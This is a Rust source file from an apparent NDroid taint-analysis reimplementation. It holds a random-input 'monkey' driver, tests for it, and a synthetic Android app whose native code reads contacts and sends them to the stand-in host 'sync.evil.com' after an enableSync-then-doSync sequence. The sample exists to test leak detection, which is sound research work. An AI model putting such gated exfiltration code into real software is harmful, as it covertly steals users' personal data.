//! A Monkeyrunner-style random input driver (§VI): "we first used one
//! simple tool (i.e., Monkeyrunner) to generate random input to drive
//! those 37,506 apps using JNI. Since this tool may miss many functions
//! involving JNI, we just found that QQPhoneBook3.5 … may leak
//! sensitive information" — and §VII: "simple tools like monkeyrunner
//! cannot enumerate all possible paths in an app and thus NDroid may
//! miss information leakage."
//!
//! The driver invokes an app's exported zero-argument "activity"
//! methods in a deterministic pseudo-random order, the way random UI
//! events trigger handlers. The [`gated_leak_app`] workload leaks only
//! when a specific two-step sequence occurs — so shallow random driving
//! misses it, deeper driving finds it, reproducing the paper's
//! coverage discussion.

use crate::builder::{App, AppBuilder};
use ndroid_arm::reg::RegList;
use ndroid_arm::Reg;
use ndroid_core::{NDroidSystem, RunReport};
use ndroid_dvm::bytecode::{CmpOp, DexInsn};
use ndroid_dvm::{ClassDef, DvmError, FieldDef, InvokeKind, MethodDef, MethodKind};
use ndroid_jni::dvm_addr;
use ndroid_libc::libc_addr;

/// A deterministic xorshift PRNG (self-contained; the driver must not
/// depend on ambient randomness).
#[derive(Debug, Clone)]
pub struct MonkeyRng(u64);

impl MonkeyRng {
    /// Seeds the generator.
    pub fn new(seed: u64) -> MonkeyRng {
        MonkeyRng(seed.max(1))
    }

    /// Next pseudo-random value.
    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }

    /// Uniform index below `n`.
    pub fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n.max(1) as u64) as usize
    }
}

/// The result of one random-driving session: its failures, plus the
/// finished system's [`RunReport`] (the one result type — callers
/// inspect it instead of poking at the system). The entry points it
/// chose are [`MonkeyRng`]'s draws from the seed, so replaying the seed
/// names them again.
#[derive(Debug)]
pub struct DriveReport {
    /// Entry-point invocations that failed (apps may throw).
    pub errors: usize,
    /// The first of those failures.
    pub first_error: Option<DvmError>,
    /// The system's run report after the final invocation.
    pub report: RunReport,
}

/// Randomly invokes `steps` of the app's exported entry points
/// (zero-argument methods of `class`) on a booted system.
pub fn drive(
    sys: &mut NDroidSystem,
    class: &str,
    entries: &[&str],
    steps: usize,
    seed: u64,
) -> DriveReport {
    let mut rng = MonkeyRng::new(seed);
    let mut errors = 0;
    let mut first_error = None;
    for _ in 0..steps {
        let entry = entries[rng.below(entries.len())];
        if let Err(e) = sys.run_java(class, entry, &[]) {
            errors += 1;
            first_error.get_or_insert(e);
        }
    }
    DriveReport {
        errors,
        first_error,
        report: sys.report(),
    }
}

/// An app with several harmless "activities" and one leak that fires
/// only when `enableSync` ran before `doSync` (a two-step path random
/// input rarely hits with few events).
pub fn gated_leak_app() -> App {
    let mut b = AppBuilder::new(
        "gated-sync",
        "leak requires the enableSync -> doSync sequence",
    );
    let c = b.program.add_class(ClassDef {
        name: "Lapp/Sync;".into(),
        static_fields: vec![FieldDef {
            name: "enabled".into(),
            is_reference: false,
        }],
        ..ClassDef::default()
    });

    // Native uploader.
    let upload = b.asm.label();
    b.asm.bind(upload).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0);
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R5, Reg::R0);
    let dest = b.data_cstr("sync.evil.com");
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R2, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::PC]));
    let upload_m = b.native_method(c, "upload", "VL", true, upload);

    let contacts = b
        .program
        .find_method_by_name("Landroid/provider/ContactsProvider;", "queryName")
        .unwrap();
    let log = b
        .program
        .find_method_by_name("Landroid/util/Log;", "d")
        .unwrap();
    let tag = b.string_const("Sync");
    let msg = b.string_const("idle");

    // Harmless activities.
    for name in ["showHome", "showSettings", "showAbout"] {
        b.method(
            c,
            MethodDef::new(
                name,
                "V",
                MethodKind::Bytecode(vec![
                    DexInsn::ConstString { dst: 0, index: tag },
                    DexInsn::ConstString { dst: 1, index: msg },
                    DexInsn::Invoke {
                        kind: InvokeKind::Static,
                        method: log,
                        args: vec![0, 1],
                    },
                    DexInsn::ReturnVoid,
                ]),
            )
            .with_registers(2),
        );
    }
    // enableSync: sets the static flag.
    b.method(
        c,
        MethodDef::new(
            "enableSync",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Const { dst: 0, value: 1 },
                DexInsn::SPut {
                    src: 0,
                    class: c,
                    field: 0,
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    // doSync: leaks only when enabled.
    b.method(
        c,
        MethodDef::new(
            "doSync",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::SGet {
                    dst: 0,
                    class: c,
                    field: 0,
                },
                DexInsn::IfTestZ {
                    op: CmpOp::Eq,
                    a: 0,
                    target: 5, // not enabled: return
                },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: contacts,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 1 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: upload_m,
                    args: vec![1],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(2),
    );
    b.finish("Lapp/Sync;", "doSync").unwrap()
}

/// The exported entry points of [`gated_leak_app`].
pub const GATED_ENTRIES: [&str; 5] = [
    "showHome",
    "showSettings",
    "showAbout",
    "enableSync",
    "doSync",
];

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;

    #[test]
    fn rng_is_deterministic() {
        let mut a = MonkeyRng::new(42);
        let mut b = MonkeyRng::new(42);
        for _ in 0..100 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
        let mut c = MonkeyRng::new(43);
        assert_ne!(a.next_u64(), c.next_u64());
    }

    #[test]
    fn shallow_monkey_misses_deep_monkey_finds() {
        // Few events: the enable→sync sequence is unlikely.
        let mut sys = gated_leak_app().launch(Mode::NDroid);
        let report = drive(&mut sys, "Lapp/Sync;", &GATED_ENTRIES, 2, 7);
        assert_eq!(report.errors, 0);
        let shallow_found = !sys.leaks().is_empty();

        // Many events: the sequence occurs with near certainty.
        let mut sys = gated_leak_app().launch(Mode::NDroid);
        let report = drive(&mut sys, "Lapp/Sync;", &GATED_ENTRIES, 200, 7);
        assert_eq!(report.errors, 0);
        assert!(
            !sys.leaks().is_empty(),
            "200 random events hit enableSync then doSync"
        );
        // The shallow run may or may not hit the sequence; record only.
        let _ = shallow_found;
    }

    #[test]
    fn directed_sequence_always_leaks() {
        let mut sys = gated_leak_app().launch(Mode::NDroid);
        sys.run_java("Lapp/Sync;", "enableSync", &[]).unwrap();
        sys.run_java("Lapp/Sync;", "doSync", &[]).unwrap();
        assert_eq!(sys.leaks().len(), 1);
        assert_eq!(sys.leaks()[0].dest, "sync.evil.com");
    }

    #[test]
    fn sync_without_enable_is_silent() {
        let mut sys = gated_leak_app().launch(Mode::NDroid);
        sys.run_java("Lapp/Sync;", "doSync", &[]).unwrap();
        assert!(sys.leaks().is_empty());
        assert!(sys.report().network_log.is_empty());
    }
}
